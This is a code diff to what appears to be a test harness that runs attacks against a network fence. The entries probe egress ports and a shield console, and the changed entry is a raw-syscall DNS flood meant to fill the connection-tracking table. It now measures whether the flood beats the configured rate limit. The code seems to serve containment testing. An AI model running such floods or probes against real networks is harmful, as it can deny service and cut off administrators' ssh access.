@@ -157,19 +157,21 @@ won(a) if a.startswith(b'HTTP/1.1 200') else lost(a[:80])
     Attack("egress-port-directly", "P2", "fence", "won(socket.create_connection(('198.18.0.1', 15001), 20))"),
     Attack("shield-console-from-inside", "P4", "fence", _tcp("198.18.0.1", 8711)),
     Attack("shield-console-by-uplink-address", "P4", "fence", _tcp("203.0.113.10", 8711)),
-    # Each takes a place in conntrack's table, which a person's ssh needs too. sendmmsg(2), so that even an emulated processor is
-    # faster than the limit: 1,000 at once and 400 a second.
+    # Each takes a place in conntrack's table, which a person's ssh needs too: 1,000 at once and 400 a second are let through.
+    # sendmmsg(2), so that even an emulated processor is faster; it stops short when one before was refused.
     Attack("questions-without-end", "P4", "flows", """
 question = bytes.fromhex('123401000001000000000000') + b'\\3api\\4demo\\4test\\0' + bytes([0, 1, 0, 1])
 data = ctypes.create_string_buffer(question)
 vector = ctypes.create_string_buffer(struct.pack('QQ', ctypes.addressof(data), len(question)))
 s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IP, 11, 1)  # IP_RECVERR
+sent, start = 0, time.monotonic()
 for third in range(1, 121):
     names = [ctypes.create_string_buffer(struct.pack('=H', socket.AF_INET) + struct.pack('!H4B8x', 53, 198, 18, third, host)) for host in range(1, 101)]
     messages = ctypes.create_string_buffer(b''.join(struct.pack('QI4xQQQQi4xI4x', ctypes.addressof(n), 16, ctypes.addressof(vector), 1, 0, 0, 0, 0) for n in names))
-    sent = 0
-    while sent < 100: sent += syscall(307, s.fileno(), ctypes.byref(messages, 64 * sent), 100 - sent, 0)
-won('12000 flows at once')
+    taken = syscall(307, s.fileno(), messages, 100, 0); sent += taken
+    if taken < 100: lost(f'refused after {sent}')
+seconds = time.monotonic() - start
+won(f'{sent} in {seconds:.1f} s') if sent > 1000 + 400 * (seconds + 1) else lost(f'{sent} in {seconds:.1f} s, which the limit allows')
 """),
     # 30 at once and one each 2 s: as many more as are let through while they are asked.
     Attack("ask-without-end", "P4", "allowance", ASKING + """
